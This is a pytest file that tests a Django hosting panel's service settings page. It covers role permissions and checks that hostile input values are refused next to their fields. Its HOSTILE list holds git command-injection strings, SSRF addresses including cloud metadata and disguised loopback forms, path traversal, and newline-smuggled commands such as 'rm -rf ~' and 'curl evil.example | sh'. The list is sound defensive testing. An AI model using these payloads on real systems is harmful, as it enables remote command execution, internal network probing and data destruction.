"""A service's settings page, as each role (and an attacker) sees it: owners and admins edit
the source, build and deploy settings; every hostile value is refused next to its field and
nothing is saved; members and outsiders change nothing."""

from __future__ import annotations

import re

import pytest
from django.core.exceptions import ValidationError
from django.forms.models import model_to_dict
from django.test import override_settings
from django_tenants.utils import tenant_context

from projects.models import Service
from projects.services import create_project, create_service
from projects.validators import validate_command, validate_healthcheck_path

FIELDS = ["repository_url", "branch", "root_directory", "build_command", "build_timeout",
          "start_command", "instances", "healthcheck_path", "healthcheck_timeout",
          "restart_policy", "max_restarts", "auto_rollback"]

VALID = {
    "repository_url": "https://github.com/acme/monorepo.git",
    "branch": "release/2.0",
    "root_directory": "apps/web",
    "build_command": "npm run build -- --mode=production && ./scripts/assets.sh",
    "build_timeout": "45",
    "start_command": "node dist/server.js --port $PORT",
    "instances": "3",
    "healthcheck_path": "/health?full=1",
    "healthcheck_timeout": "120",
    "restart_policy": "always",
    "max_restarts": "5",
    "auto_rollback": "",  # unchecked: not sent by a browser
    "log_retention_days": "14",
}


@pytest.fixture
def service(people) -> Service:
    with tenant_context(people.workspace_a):
        environment = create_project("Shop").environments.get()
        return create_service(environment, "web", repository_url="https://github.com/acme/web.git")


def url(service: Service) -> str:
    return f"/services/{service.pk}/settings/"


def stored(people, service: Service) -> dict:
    with tenant_context(people.workspace_a):
        return model_to_dict(Service.objects.get(pk=service.pk), fields=FIELDS)


def field_errors(response, field: str) -> list[str]:
    return re.findall(rf'data-field-error="{field}">([^<]*)<', response.content.decode())


def form_data(**changes: str) -> dict[str, str]:
    data = {**VALID, **changes}
    return {key: value for key, value in data.items() if key != "auto_rollback" or value}


@pytest.mark.parametrize("role", ["owner", "admin"])
def test_owners_and_admins_edit_the_settings(people, client_for, service, role):
    client = client_for(getattr(people, role), people.workspace_a)
    page = client.get(url(service)).content.decode()
    assert 'value="https://github.com/acme/web.git"' in page
    assert 'value="60"' in page and 'value="30"' in page  # healthcheck and build timeouts
    assert '<option value="on-failure" selected>' in page
    assert re.search(r'name="auto_rollback"[^>]*checked', page)

    response = client.post(url(service), form_data())
    assert response.status_code == 302 and response["Location"] == url(service)
    assert stored(people, service) == {
        "repository_url": "https://github.com/acme/monorepo.git", "branch": "release/2.0",
        "root_directory": "apps/web",
        "build_command": "npm run build -- --mode=production && ./scripts/assets.sh",
        "build_timeout": 45, "start_command": "node dist/server.js --port $PORT",
        "instances": 3, "healthcheck_path": "/health?full=1", "healthcheck_timeout": 120,
        "restart_policy": "always", "max_restarts": 5, "auto_rollback": False,
    }
    page = client.get(response["Location"]).content.decode()
    assert "Settings saved. They apply from the next deployment." in page
    assert '<option value="always" selected>' in page


def test_blank_optional_settings_mean_detect_and_defaults(people, client_for, service):
    client = client_for(people.owner, people.workspace_a)
    response = client.post(url(service), form_data(
        repository_url="", branch="", root_directory="", build_command="", start_command="",
        healthcheck_path=""))
    assert response.status_code == 302
    saved = stored(people, service)
    assert (saved["repository_url"], saved["branch"], saved["build_command"],
            saved["healthcheck_path"]) == ("", "main", "", "")


def test_the_service_page_links_to_the_settings_for_those_who_may_edit(people, client_for,
                                                                       service):
    link = f'href="{url(service)}"'
    owner_page = client_for(people.owner, people.workspace_a).get(f"/services/{service.pk}/")
    member_page = client_for(people.member, people.workspace_a).get(f"/services/{service.pk}/")
    assert link in owner_page.content.decode()
    assert link not in member_page.content.decode()


def test_a_member_may_not_change_the_settings(people, client_for, service):
    before = stored(people, service)
    member = client_for(people.member, people.workspace_a)
    assert member.get(url(service)).status_code == 403
    assert member.post(url(service), form_data()).status_code == 403
    assert stored(people, service) == before


def test_outsiders_get_404(people, client_for, service):
    before = stored(people, service)
    with tenant_context(people.workspace_b):
        assert not Service.objects.filter(pk=service.pk).exists()
    for client in (client_for(people.outsider, people.workspace_a),
                   client_for(people.outsider, people.workspace_b)):
        assert client.get(url(service)).status_code == 404
        assert client.post(url(service), form_data()).status_code == 404
    assert stored(people, service) == before


HOSTILE = [
    ("repository_url", "ext::sh -c touch% /tmp/pwned"),
    ("repository_url", "ssh://internal-host/repo"),
    ("repository_url", "file:///etc"),
    ("repository_url", "/srv/repositories/web"),
    ("repository_url", "--upload-pack=touch /tmp/pwned"),
    ("repository_url", "https://github.com/acme/web\n.git"),
    ("repository_url", "https://token@github.com/acme/web"),
    # The panel's own network: a scan of it through git's error messages.
    ("repository_url", "https://127.0.0.1:5432/db.git"),
    ("repository_url", "https://169.254.169.254/latest/meta-data"),
    ("repository_url", "https://10.0.0.7/team/app.git"),
    ("repository_url", "https://[::1]/app.git"),
    ("repository_url", "https://localhost/app.git"),
    ("repository_url", "https://gitlab.internal/app.git"),
    # The same, in notations the C library and curl read as those addresses (issue 9).
    ("repository_url", "https://0x7f000001/db.git"),
    ("repository_url", "https://2130706433/db.git"),
    ("repository_url", "https://127.1/db.git"),
    ("repository_url", "https://017700000001/db.git"),
    ("repository_url", "https://0251.0376.0251.0376/latest/meta-data"),
    ("repository_url", "https://[::ffff:127.0.0.1]/app.git"),
    ("repository_url", "https://%31%32%37.0.0.1/app.git"),
    ("branch", "-f"),
    ("branch", "--orphan"),
    ("branch", "a..b"),
    ("branch", "main\nx"),
    ("branch", "x.lock"),
    ("branch", "HEAD"),
    ("root_directory", "../other"),
    ("root_directory", "apps/../../etc"),
    ("root_directory", "/etc"),
    ("root_directory", "-rf"),
    ("root_directory", "apps\\web"),
    ("root_directory", "apps/\x01web"),
    ("build_command", "npm ci\nrm -rf ~"),
    ("build_command", "npm ci\rrm -rf ~"),
    ("build_command", "npm ci\x00rm"),
    ("build_command", "echo \x1b[31mred"),
    ("build_command", "npm ci\u2028rm -rf ~"),
    ("build_command", "x" * 2001),
    ("start_command", "node server.js\ncurl evil.example | sh"),
    ("start_command", "node server.js\x85x"),
    ("start_command", "node\tserver.js"),
    ("healthcheck_path", "health"),
    ("healthcheck_path", "//evil.example/health"),
    ("healthcheck_path", "http://evil.example/health"),
    ("healthcheck_path", "/health\r\nHost: evil.example"),
    ("healthcheck_path", "/he alth"),
    ("healthcheck_path", "/health\x00"),
    ("healthcheck_path", "/\\evil.example"),
    ("healthcheck_path", "/" + "a" * 255),
    ("healthcheck_timeout", "0"),
    ("healthcheck_timeout", "601"),
    ("healthcheck_timeout", "-5"),
    ("healthcheck_timeout", "soon"),
    ("instances", "0"),
    ("instances", "17"),
    ("build_timeout", "0"),
    ("build_timeout", "61"),
    ("max_restarts", "-1"),
    ("max_restarts", "1001"),
    ("restart_policy", "sometimes"),
]


@pytest.mark.parametrize("field, value", HOSTILE)
@override_settings(PAAS_ALLOW_LOCAL_REPOS=False)
def test_hostile_settings_are_refused_next_to_their_field(people, client_for, service,
                                                          field, value):
    before = stored(people, service)
    response = client_for(people.owner, people.workspace_a).post(
        url(service), form_data(**{field: value}))
    assert response.status_code == 200
    assert field_errors(response, field), response.content.decode()
    for other in set(FIELDS) - {field}:
        assert not field_errors(response, other), other
    assert "Nothing was saved" in response.content.decode()
    assert stored(people, service) == before  # not even the valid fields


def test_an_internal_address_in_disguise_is_named_for_what_it_is(people, client_for, service):
    response = client_for(people.owner, people.workspace_a).post(
        url(service), form_data(repository_url="https://0x7f000001/db.git"))
    [error] = field_errors(response, "repository_url")
    assert "127.0.0.1 is a loopback address" in error and "public URL" in error


def test_a_refused_command_tells_the_user_to_use_a_script(people, client_for, service):
    response = client_for(people.admin, people.workspace_a).post(
        url(service), form_data(start_command="npm run migrate\nnpm start"))
    [error] = field_errors(response, "start_command")
    assert "single line" in error and "script in your repository" in error


@override_settings(PAAS_ALLOW_LOCAL_REPOS=True)
def test_local_repositories_where_the_host_allows_them(people, client_for, service):
    response = client_for(people.owner, people.workspace_a).post(
        url(service), form_data(repository_url="/srv/repositories/web"))
    assert response.status_code == 302
    assert stored(people, service)["repository_url"] == "/srv/repositories/web"


# The validators the deploy engine checks again before use ------------------------------------


@pytest.mark.parametrize("command", ["", "npm start", "./bin/start --port $PORT",
                                     "npm ci && npm run build", "python -m app 'a b'"])
def test_single_line_commands_are_accepted(command):
    validate_command(command)


@pytest.mark.parametrize("command", ["a\nb", "a\rb", "a\x00", "\x1b[0m", "a\x7f", "x" * 2001])
def test_commands_with_line_breaks_or_controls_are_refused(command):
    with pytest.raises(ValidationError):
        validate_command(command)


@pytest.mark.parametrize("path", ["/", "/health", "/api/v1/ready?full=1&x=%20", "/a:b/@c"])
def test_paths_on_the_apps_own_port_are_accepted(path):
    validate_healthcheck_path(path)


@pytest.mark.parametrize("path", ["", "health", "//host/x", "/a b", "/a\nb", "/\\x",
                                  "https://x/", "/é", "/" + "a" * 255])
def test_other_healthcheck_paths_are_refused(path):
    with pytest.raises(ValidationError):
        validate_healthcheck_path(path)


def test_owners_set_the_services_limits_and_blank_keeps_them(people, client_for, service):
    client = client_for(people.owner, people.workspace_a)
    assert 'name="memory_limit_mb"' in client.get(url(service)).content.decode()
    response = client.post(url(service), form_data(memory_limit_mb="300", max_processes="64",
                                                   max_open_files="2048", cpu_priority="5"))
    assert response.status_code == 302
    limits = ("memory_limit_mb", "max_processes", "max_open_files", "cpu_priority")
    with tenant_context(people.workspace_a):
        fresh = Service.objects.values(*limits).get(pk=service.pk)
    assert fresh == {"memory_limit_mb": 300, "max_processes": 64, "max_open_files": 2048,
                     "cpu_priority": 5}
    assert client.post(url(service), form_data(memory_limit_mb="")).status_code == 302
    with tenant_context(people.workspace_a):
        assert Service.objects.get(pk=service.pk).memory_limit_mb == 300
    response = client.post(url(service), form_data(memory_limit_mb="99999999"))
    assert response.status_code == 200 and field_errors(response, "memory_limit_mb")


@pytest.mark.parametrize("value", ["0", "8", "365", "-1", "seven", "7 days"])
def test_log_retention_is_one_of_the_offered_periods(people, client_for, service, value):
    client = client_for(people.owner, people.workspace_a)
    response = client.post(url(service), form_data(log_retention_days=value))
    assert response.status_code == 200 and field_errors(response, "log_retention_days")
    with tenant_context(people.workspace_a):
        assert Service.objects.get(pk=service.pk).log_retention_days == 7


def test_log_retention_is_saved_and_blank_keeps_it(people, client_for, service):
    client = client_for(people.admin, people.workspace_a)
    assert client.post(url(service), form_data(log_retention_days="30")).status_code == 302
    assert client.post(url(service), form_data(log_retention_days="")).status_code == 302
    with tenant_context(people.workspace_a):
        assert Service.objects.get(pk=service.pk).log_retention_days == 30
